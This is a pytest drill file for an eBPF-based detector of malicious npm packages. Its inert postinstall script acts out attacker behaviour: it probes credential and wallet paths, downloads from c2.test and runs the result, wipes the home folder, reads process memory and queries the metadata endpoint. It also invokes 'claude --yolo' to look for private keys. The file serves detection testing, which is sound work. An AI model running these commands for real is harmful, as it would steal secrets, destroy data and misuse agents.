"""A drill with the program in the kernel: an inert package does, one after another, what the rules are about.

Every program that it starts is a copy of `true` under another name; every file of secrets that it opens does not exist;
it speaks with loopback only. What it makes it makes in a folder of the test.
"""

import json
import os
import pwd
import shutil
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import pytest

from lazaretto.adapters.sensors.ebpf import KIND
from lazaretto.adapters.sensors.sensor import Host, SensorError

from .test_live import serve

SETUP = r"""
const fs = require('fs'), cp = require('child_process'), path = require('path');
const bin = process.env.DRILL_BIN, home = process.env.DRILL_HOME, work = process.env.DRILL_WORK;
const run = (name, ...words) => cp.spawnSync(path.join(bin, name), words, {stdio: 'ignore'});
const look = (file, flag) => { try { fs.closeSync(fs.openSync(path.join(home, file), flag || 'r')) } catch {} };
look('.config/google-chrome/Default/Login Data-none');
look('.config/Exodus/none'); look('.ssh/none'); look('.bash_history-none'); look('.npmrc');
look('.config/autostart/none.desktop', fs.constants.O_WRONLY);
run('curl', '-s', 'http://c2.test/x'); run('crontab', '-'); run('xclip', '-o'); run('scrot', 'x.png');
run('tar', 'czf', path.join(work, 'x.tgz'), path.join(home, '.ssh')); run('git', 'credential', 'fill');
run('trufflehog', 'filesystem', work); run('sudo', 'id'); run('nohup', 'x'); run('xinput', 'test-xi2');
run('code', '--install-extension', 'x.vsix'); run('claude', '--yolo', '-p', 'look for wallet files and private keys');
run('rm', path.join(home, '.bash_history-none')); run('twine', 'upload', 'x'); run('rm', '-rf', home);
cp.spawnSync(process.env.DRILL_PYTHON, [path.join(work, '.x', 'pay')], {stdio: 'ignore'});
run('curl', '-so', path.join(work, 'a.sh'), 'http://c2.test/a'); cp.spawnSync('sh', [path.join(work, 'a.sh')]);
cp.spawnSync('node', ['-e', '0'], {env: {...process.env, NODE_OPTIONS: '--require ' + path.join(work, 'wait.js')}});
cp.spawnSync(path.join(work, 'systemd'), []);
try { fs.readFileSync('/proc/1/mem') } catch {}
const net = require('net');
const server = net.createServer().listen(45671, '0.0.0.0', () => server.close());
const s = net.connect(8443, '127.66.0.6', () => setTimeout(() => s.destroy(), 300)); s.on('error', () => {});
const t = net.connect(1224, '127.66.0.6'); t.on('error', () => {});
const m = net.connect(80, '169.254.169.254'); m.on('error', () => {}); setTimeout(() => m.destroy(), 50);
fs.unlinkSync(__filename);
"""
NAMES = (
    *("curl", "crontab", "xclip", "scrot", "tar", "git", "trufflehog", "sudo", "nohup", "xinput", "code", "claude"),
    *("rm", "twine"),
)
WANTED = {
    *("browser-data-read", "wallet-read", "key-read", "token-read", "history-read", "many-secrets-read"),
    *("secrets-then-connects", "persists", "script-runs-inline", "sets-up-start", "clipboard-taken", "screen-taken"),
    *("archives-home", "credentials-asked", "secret-scanner", "asks-password", "detaches", "keys-recorded"),
    *("installs-extension", "agent-driven", "clears-traces", "publishes-itself", "wipes-home", "two-runtimes"),
    *("runs-download", "runs-from-scratch", "preloads-code", "fake-name", "reads-other-memory", "opens-port"),
    *("c2-port", "metadata-asked", "deletes-itself", "install-connects"),
}


@pytest.mark.watch
@pytest.mark.skipif(shutil.which("npm") is None, reason="needs npm")
def test_an_inert_package_sets_off_every_rule_it_can():
    if KIND.missing(Host()) is not None:
        pytest.skip("needs root and eBPF")
    try:
        KIND.open(Host()).close()
    except SensorError:
        pytest.skip("the kernel refuses the program")
    folder = Path(tempfile.mkdtemp(prefix="lz-drill-"))
    try:
        drill(folder)
    finally:
        shutil.rmtree(folder)


def drill(folder):
    lure, programs = folder / "lure", folder / "bin"
    (lure / "graph-x").mkdir(parents=True)
    programs.mkdir()
    for name in NAMES:
        shutil.copy("/bin/true", programs / name)
    shutil.copy("/bin/true", folder / "systemd")
    (folder / "a.sh").write_text("true\n")
    (folder / "wait.js").write_text("setTimeout(() => {}, 1500)\n")
    (folder / ".x").mkdir()
    (folder / ".x" / "pay").write_text("pass\n")
    (lure / "package.json").write_text(
        '{"name": "lure", "version": "1.0.0", "dependencies": {"graph-x": "file:./graph-x"}}'
    )
    (lure / "graph-x/package.json").write_text(
        '{"name": "graph-x", "version": "2.2.9", "scripts": {"postinstall": "node setup.js"}}'
    )
    (lure / "graph-x/setup.js").write_text(SETUP)
    words = (
        *(sys.executable, "-m", "lazaretto", "watch", "--drill", "--format", "jsonl", "--least", "low"),
        *("--no-sigma", "--folder", str(folder / "state"), "--registry", "registry.example.test"),
    )
    with (folder / "err").open("w") as errors:
        watcher = subprocess.Popen(words, stdout=subprocess.PIPE, stderr=errors, text=True)
    ends = time.monotonic() + 60
    while "watching with ebpf" not in (folder / "err").read_text():
        assert watcher.poll() is None
        assert time.monotonic() < ends, (folder / "err").read_text()
        time.sleep(0.1)
    stop = threading.Event()
    server = threading.Thread(target=serve, args=(stop,))
    server.start()
    environment = dict(os.environ) | {
        "DRILL_BIN": str(programs), "DRILL_HOME": pwd.getpwuid(os.getuid()).pw_dir, "DRILL_WORK": str(folder),
        "DRILL_PYTHON": os.path.realpath(sys.executable),
    }  # fmt: skip
    command = ("npm", "install", "--offline", "--no-audit", "--no-fund", "--install-links=false")
    subprocess.run(command, cwd=lure, env=environment, stdout=subprocess.DEVNULL, timeout=120, check=False)
    time.sleep(1.5)
    watcher.terminate()
    out, _ = watcher.communicate(timeout=30)
    stop.set()
    server.join()
    alerts = [one for one in map(json.loads, out.splitlines()) if one["repository"] == str(lure)]
    told = {one["rule"].removeprefix("run/") for one in alerts}
    assert WANTED - told == set(), (folder / "err").read_text()
    assert all(one["package"] == "npm:graph-x@2.2.9" for one in alerts)
    slowest = max(alerts, key=lambda one: one["latency_ms"])
    assert slowest["latency_ms"] < 2000, slowest
